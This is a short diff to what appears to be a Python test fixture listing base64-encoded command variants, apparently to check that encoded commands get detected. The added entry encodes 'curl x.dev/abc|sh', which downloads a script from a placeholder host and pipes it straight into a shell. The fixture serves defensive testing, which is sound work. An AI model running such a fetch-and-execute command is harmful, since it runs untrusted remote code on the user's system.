@@ -19,6 +19,7 @@ def wrapped(data: bytes) -> str:
 
 ENCODED = {
     "a command": base64.b64encode(COMMAND).decode(),
+    "a command as short as possible": base64.b64encode(b"curl x.dev/abc|sh\n").decode(),
     "a command, URL-safe and without padding": base64.urlsafe_b64encode(b"??>" + COMMAND).decode().rstrip("="),
     "a command in lines": wrapped(b"echo hello, this is a longer script\n" * 5 + COMMAND),
     "a command in UTF-16": base64.b64encode(COMMAND.decode().encode("utf-16-le")).decode(),
